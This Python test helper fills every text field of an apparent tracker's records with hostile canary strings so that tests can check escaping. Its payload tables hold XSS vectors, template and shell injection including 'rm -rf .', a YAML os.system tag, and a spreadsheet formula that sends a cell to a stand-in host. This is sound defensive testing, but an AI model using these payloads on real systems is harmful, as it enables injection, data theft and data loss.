"""A tracker with a hostile text in every text field of every kind, computed from the types.

Nothing is listed by hand but what a rule forbids: a new field, part or kind is planted by itself.
Of a type of field that is new, and holds no words, a value must be added (`FIXED`).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date
from enum import Enum
from pathlib import Path
from types import NoneType, UnionType
from typing import Annotated, Any, Union, get_args, get_origin

import yaml

from clearway.problems import Place, Severity
from clearway.records import fields as types
from clearway.records.dates.ledger import Announcement
from clearway.records.editing.layout import HOMES, FileShape, KindLocation
from clearway.records.fields import Part, RefTo
from clearway.records.fields.text import Hashtag, Text
from clearway.records.kinds.parts import RecurrenceRule
from clearway.records.kinds.version import CommitName
from clearway.records.reading.files import parse_document
from clearway.records.reading.positions import Loc
from clearway.records.rules import check

TODAY = date(2026, 11, 22)

Tree = Any
"""Maps, lists and texts, as YAML holds them."""

# --- What is planted


SHAPES: dict[str, Callable[[int], str]] = {
    "plain": lambda n: f"canary{n}x of {'some ' * (n % 11)}words",
    "markup": lambda n: (
        f"canary{n}x \"'>--></title></textarea></style></script>]]><svg onload=pwned({n})>"
        f"<script>pwned({n})</script><img src=x onerror=pwned({n})>"
    ),
    "attribute": lambda n: (
        f"canary{n}x\" onmouseover=\"pwned({n})\" autofocus onfocus='pwned({n})' x='"
    ),
    "link": lambda n: (
        f"canary{n}x [x](javascript:pwned({n})) <javascript:pwned({n})> "
        f"![x](https://elsewhere.example/{n}.png) [y]: data:text/html,<script>pwned({n})</script>"
        f" &lt;img src=x onerror=pwned({n})&gt; &#60;svg onload=pwned({n})&#62;"
    ),
    "template": lambda n: (
        f"canary{n}x {{{{ 7*7 }}}} {{% raw %}} {{# x #}} ${{7*7}} <%= 7*7 %> #{{7*7}} "
        f"${{{{ github.token }}}} $(id) `id` ; rm -rf . & ::set-output name=x::{n}"
    ),
    "formula": lambda n: f'=HYPERLINK("https://elsewhere.example/?"&A1,"canary{n}x")',
    "lines": lambda n: (
        f"canary{n}x;X=1:\\nEND:VEVENT\\nBEGIN:VALARM\\,\\;: {{a: [b]}} # c "
        "!!python/object/apply:os.system [id] &a *a | > --- %TAG"
    ),
    "everything": lambda n: (
        f"canary{n}x \"'>--></title></textarea></script>]]><script>pwned({n})</script>"
        f'<img src=x onerror=pwned({n})>" autofocus onfocus="pwned({n})" x=\'{{{{ 7*7 }}}}'
        f"[x](javascript:pwned({n})) &lt;svg onload=pwned({n})&gt; {{% raw %}}"
    ),
}
"""A hostile text for the number of a canary, by what it tries."""

TONGUES = "translated"
"""A shape of its own: 'markup' in two languages wherever a text may have several."""

HIDDEN_SIGNS = "\0\a\b\x1b\x7f\x85\u2028\u2029\u202a\u202d\u202e\u2066\u2067\ufeff\ufffe"
"""Signs that no field takes: they end lines, steer terminals or turn the direction of writing."""

BODIES = {
    "plain": '[x](https://x.example/ "title") said {n} of words',
    "markup": "<div onclick='pwned({n})'>block</div>\n\n<script>pwned({n})</script>",
    "link": "[{n}][1] ![x](https://elsewhere.example/{n}.png)\n\n"
    '[1]: https://x.example/?a=1&b=2 "<script>pwned({n})</script>"',
}
BODIES["everything"] = "\n\n".join(BODIES.values())
"""What a Markdown body has besides the text, by shape."""

# --- What is not text


END, START = "2024-06-03", "2024-05-20"

FIXED: dict[Any, Callable[[int], Tree]] = {
    types.Id: lambda n: f"part{n}",
    types.Address: lambda n: f"https://x.example/?a='onmouseover='pwned({n})&b=2#(c)*",
    types.AddressOrNone: lambda n: f"https://x.example/?a='onmouseover='pwned({n})&b=2",
    types.Contact: lambda n: f"https://x.example/?a='onmouseover='pwned({n})&b=2",
    types.Day: lambda n: "2024-05-01",
    types.CalendarDate: lambda n: "2024-05-01",
    types.DateOrSpan: lambda n: f"2024-06-{n % 28 + 1:02}T10:00/11:00",
    types.DateOrUnknown: lambda n: f"2024-06-{n % 28 + 1:02}T10:00/11:00",
    types.Zone: lambda n: "Europe/Zurich",
    types.Country: lambda n: "CH",
    types.LanguageTag: lambda n: "en",
    Hashtag: lambda n: f"Tag{n}",
    types.Latitude: lambda n: "46.2",
    types.Longitude: lambda n: "6.1",
    types.Sha256: lambda n: "a" * 64,
    types.YesNo: lambda n: "yes",
    types.Count: lambda n: str(n),
    types.Domain: lambda n: "hostile.example",
    types.Identity: lambda n: "hostile.example,2024-01-01",
    RecurrenceRule: lambda n: "FREQ=WEEKLY;COUNT=2",
    types.RecordRef: lambda n: "milestone:milestone-plain",
    types.RaisedAt: lambda n: "summary:summary-plain#point",
    CommitName: lambda n: "a" * 40,
}
"""A value for each type of field that holds no words. The value that a rule wants: `NEEDED`."""

WORDS = {get_args(types.Line)[1], get_args(types.Verbatim)[1]}
"""What marks a field of plain words."""

_BY_MARK = {get_args(kind)[1]: make for kind, make in FIXED.items()}

# --- What a rule asks for. test_canaries.py holds that none of these could hold a hostile text.

NAMED = {"translation": "fr"}
"""The id of a record of a kind whose ids are no words of anybody's choice."""

VOCABULARIES = {"stage": "only", "group": "loud", "topic": "noise"}

LEFT_OUT = object()

PLAIN, LEDGER, OFF = "plain", "ledger", "off"
"""A record with one date, one with a ledger of dates, and one that is cancelled."""

_NOT_IN: dict[str, tuple[str, ...]] = {
    PLAIN: ("dates", "cancelled"),
    LEDGER: ("when", "zone", "printed", "announced", "cancelled"),
    OFF: ("dates",),
}
"""Fields of an announcement that exclude the others."""

VARIANTS: dict[str, tuple[str, ...]] = {
    "milestone": (PLAIN, LEDGER, OFF),
    "consultation": (PLAIN, LEDGER, OFF),
    "draft": (PLAIN, "second", LEDGER),
    "annotation": ("plain", "note"),
    "statement": (PLAIN, LEDGER),
    "commitment": ("plain", "unread"),
    "ask": ("plain", "process"),
    "promise": (PLAIN, LEDGER, OFF),
    "endorsement": ("plain", "person"),
    "position": ("plain", "bloc"),
    "organisation": ("plain", "other"),
}
"""The records of a kind, where one record cannot have all fields at once."""

NEEDS: dict[str, Tree] = {
    "Record.was": LEFT_OUT,
    "Stage.id": VOCABULARIES["stage"],
    "Group.id": VOCABULARIES["group"],
    "Topic.id": VOCABULARIES["topic"],
    "Profile.revised": LEFT_OUT,
    "Pair.new": "draft-second",
    "Repeats.skips": LEFT_OUT,
    "GovernmentPosition.bloc@plain": LEFT_OUT,
    "GovernmentPosition.country@bloc": LEFT_OUT,
    "Milestone.kind@ledger": "silence-procedure",
    "Milestone.silence@plain": LEFT_OUT,
    "Milestone.silence@off": LEFT_OUT,
    "Silence.result": "broken",
    "LedgerEntry.status": LEFT_OUT,
    "Draft.when@plain": "2024-04-01",
    "Draft.when@second": "2024-04-20",
    "Draft.previous@plain": LEFT_OUT,
    "Draft.text@ledger": "outline",
    "Draft.outline@plain": LEFT_OUT,
    "Draft.outline@second": LEFT_OUT,
    "Draft.concordance@plain": LEFT_OUT,
    "Correspondence.from_": ["1"],
    "Correspondence.to": [],
    "Correspondence.kind": "not",
    "Annotation.paragraph": "1",
    "Annotation.to": "after 1",
    "Quote.exact": "canary",
    "Quote.prefix": LEFT_OUT,
    "Quote.suffix": LEFT_OUT,
    "Finding.paragraph": ["1"],
    "Thread.places": ["draft-plain#p1"],
    "Summary.published": "2024-07-01",
    "Point.id": "point",
    "Ask.raised": ["summary:summary-plain#point"],
    "Ask.suggested": ["summary:summary-plain#point"],
    "Ask.scope@process": "process",
    "Ask.fates@process": LEFT_OUT,
    "Ask.commitments@plain": LEFT_OUT,
    "Commitment.number@plain": "1",
    "Commitment.number@unread": "2",
    "Commitment.text_unknown@plain": LEFT_OUT,
    "Commitment.rules@unread": LEFT_OUT,
    "Commitment.judgement@unread": LEFT_OUT,
    "Commitment.text@unread": LEFT_OUT,
    "Measure.most": LEFT_OUT,
    "Measure.record": LEFT_OUT,
    "Measure.after": LEFT_OUT,
    "Measure.group": LEFT_OUT,
    "Statement.text": "none",
    "Endorsement.affiliation@plain": LEFT_OUT,
    "Endorsement.kind@person": "individual",
    "Endorsement.organisation@person": LEFT_OUT,
    "Endorsement.different_from": LEFT_OUT,
    "Endorsement.sha256": LEFT_OUT,
}
"""By `Type.field`, or `Type.field@variant`."""


@dataclass
class Planter:
    """Fills types with values.

    `planted` has each text by the way to its field, `ways` the ways of each `Type.field`, and
    `unknown` the fields for whose type there is no value here: add one to `FIXED`.
    """

    shape: str
    planted: dict[str, str] = field(default_factory=dict)
    ways: dict[str, list[str]] = field(default_factory=dict)
    unknown: list[str] = field(default_factory=list)
    number: int = 0
    variant: str = ""
    at: str = ""

    @property
    def fields(self) -> set[str]:
        """Each `Type.field` that has a text somewhere."""
        found = {name for name, ways in self.ways.items() if self.planted.keys() & set(ways)}
        return {name for name in found if not name.endswith(".body")}

    def part(self, model: type[Part], way: str) -> dict[str, Tree]:
        """All fields of a part, but those that exclude others in this record."""
        found: dict[str, Tree] = {}
        for name, info in model.model_fields.items():
            value = self._needed(model, name)
            if value is None:
                self.at = f"{model.__name__}.{name}"
                value = self._value(info.annotation, tuple(info.metadata), f"{way}.{name}")
            if value is not LEFT_OUT:
                found[info.alias or name] = value
        return found

    def _needed(self, model: type[Part], name: str) -> Tree:
        excluded = _NOT_IN.get(self.variant, ("dates", "cancelled"))
        if issubclass(model, Announcement) and name in excluded:
            return LEFT_OUT
        for base in model.__mro__:
            for key in (f"{base.__name__}.{name}@{self.variant}", f"{base.__name__}.{name}"):
                if key in NEEDS:
                    return NEEDS[key]
        return None

    def text(self, way: str) -> str:
        self.number += 1
        text = SHAPES["markup" if self.shape == TONGUES else self.shape](self.number)
        if self.shape in ("link", "everything") and way.endswith(".body"):
            # The check refuses links to scripts in a body; what follows them stays.
            text = re.sub(r"\[x\]\(\S+|<java\S+", "", text)
        self.planted[f"{way}@{self.variant}"] = text
        self.ways.setdefault(self.at, []).append(f"{way}@{self.variant}")
        return text

    def _value(self, annotation: Any, metadata: tuple[Any, ...], way: str) -> Tree:
        origin, inner = get_origin(annotation), get_args(annotation)
        if origin is Annotated:
            return self._value(inner[0], (*metadata, *inner[1:]), way)
        if origin in (Union, UnionType):
            [one] = [each for each in inner if each is not NoneType]
            return self._value(one, metadata, way)
        for mark in metadata:
            if isinstance(mark, RefTo):
                return VOCABULARIES.get(mark.kind, f"{mark.kind}-plain")
        if origin is tuple:
            item = self._value(inner[0], (), f"{way}[]")
            return item if item is LEFT_OUT else [item]
        if origin is dict:
            return {self._value(inner[0], (), way): self._value(inner[1], (), way)}
        return self._single(annotation, metadata, way)

    def _single(self, annotation: Any, metadata: tuple[Any, ...], way: str) -> Tree:
        if annotation is Text and self.shape == TONGUES:
            return {"en": self.text(f"{way}[en]"), "ar": self.text(f"{way}[ar]")}
        if annotation is Text or any(mark in WORDS for mark in metadata):
            return self.text(way)
        if isinstance(annotation, type) and issubclass(annotation, Part):
            return self.part(annotation, way)
        for mark in metadata:
            if mark in _BY_MARK:
                self.number += 1
                return _BY_MARK[mark](self.number)
        if isinstance(annotation, type) and issubclass(annotation, Enum):
            return str(next(iter(annotation)).value)
        self.unknown.append(f"{way}: {annotation} {metadata}")
        return LEFT_OUT


def holds_words(annotation: Any, metadata: Iterable[Any] = ()) -> bool:
    """Whether a field has words of its own, alone or in a list; a part's words are the part's."""
    if annotation is Text or any(mark in WORDS for mark in metadata):
        return True
    return any(
        holds_words(each, getattr(each, "__metadata__", ())) for each in get_args(annotation)
    )


def fields_of_words() -> set[str]:
    """`Type.field` of every field in any record that holds words."""
    waiting: list[Any] = [home.model for home in HOMES.values()]
    found, seen = set(), set()
    while waiting:
        each = waiting.pop()
        waiting += get_args(each)
        if isinstance(each, type) and issubclass(each, Part) and each not in seen:
            seen.add(each)
            for name, info in each.model_fields.items():
                waiting.append(info.annotation)
                if holds_words(info.annotation, info.metadata):
                    found.add(f"{each.__name__}.{name}")
    return found


# --- The tracker


def planted_tracker(root: Path, shape: str) -> Planter:
    """As `plant`, without what a rule refuses that this module does not know yet.

    So a new rule leaves out the field that it is about, and nothing else.
    """
    planter = plant(root, shape)
    for _ in range(8):
        problems = [p for p in check(root, TODAY).problems if p.severity is Severity.ERROR]
        for path in sorted({problem.place.path for problem in problems}):
            places = {problem.place for problem in problems}
            gone = _without(root / path, path, places)
            planter.planted = {w: t for w, t in planter.planted.items() if t not in gone}
    return planter


def _without(file: Path, name: str, places: set[Place]) -> set[str]:
    """Takes the values at these places out of a file; gives the texts that went."""
    document, _ = parse_document(file.read_bytes(), name)
    assert document is not None
    tree: Any = document.value
    before = set(strings_of(tree))
    found = {document.marks.value(loc): loc for loc in _locs(tree, ())}
    for loc in sorted((found[place] for place in places & found.keys()), key=str, reverse=True):
        holder = tree
        for key in loc[:-1]:
            holder = holder[key]
        if loc:
            del holder[loc[-1]]
    text = _yaml(tree)
    body = f"---\n{text}---\n\n{document.body}\n" if name.endswith(".md") else text
    _write(file, body)
    return before - set(strings_of(tree))


def _locs(value: Any, loc: Loc) -> Iterator[Loc]:
    yield loc
    if isinstance(value, dict | list):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from _locs(inner, (*loc, key))


def strings_of(value: Any) -> Iterator[str]:
    """Every text in what JSON or YAML held, names of fields included."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield str(key)
            yield from strings_of(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings_of(inner)
    elif isinstance(value, str):
        yield value


def plant(root: Path, shape: str) -> Planter:
    """Writes a tracker's records below `root`."""
    planter = Planter(shape)
    for home in HOMES.values():
        records = []
        for planter.variant in VARIANTS.get(home.kind, ("plain",)):
            id, owner = f"{home.kind}-{planter.variant}", f"{home.owner}-plain"
            id = NAMED.get(home.kind, id)
            tree = planter.part(home.model, home.kind)
            tree["id"] = id
            if home.shape in (FileShape.LIST, FileShape.LISTS):
                tree.pop(home.owner, None)
                records.append(tree)
                continue
            for name in home.placed:
                tree.pop(name, None)
            _write(root / home.path(id, owner), _record(home, tree, planter))
        if records:
            _write(root / home.path("", owner), _yaml(records))
    return planter


def _record(home: KindLocation, tree: Tree, planter: Planter) -> str:
    if home.suffix == ".yaml":
        return _yaml(tree)
    planter.at = f"{home.model.__name__}.body"
    text = planter.text(f"{home.kind}.body")
    more = BODIES.get(planter.shape, "").format(n=planter.number)
    return f"---\n{_yaml(tree)}---\n\n1. {text}\n\n2. Words.\n\n{more}\n"


def _yaml(tree: Tree) -> str:
    written: str = yaml.safe_dump(tree, allow_unicode=True, sort_keys=False, default_style='"')
    return written


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8", newline="")
